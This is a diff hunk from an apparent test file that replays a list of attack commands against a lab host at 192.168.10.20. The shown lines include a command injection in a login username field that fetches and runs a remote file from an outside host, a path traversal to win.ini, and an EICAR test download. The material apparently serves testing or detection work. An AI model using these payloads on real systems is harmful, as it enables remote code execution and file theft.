@@ -21,7 +21,7 @@ afterAll(async () => {
 }, 120_000);
 
 /** The document's own five commands, letter for letter, as a person pastes them into the attacker's shell. */
-const attacks = String.raw`
+const attacks = `
 curl "http://192.168.10.20/weblogin.cgi?username=admin';cd /tmp;wget http://123.123.123.123/evil;sh evil;rm evil"
 curl http://192.168.10.20/?item=../../../../WINNT/win.ini
 curl http://192.168.10.20/eicar.file
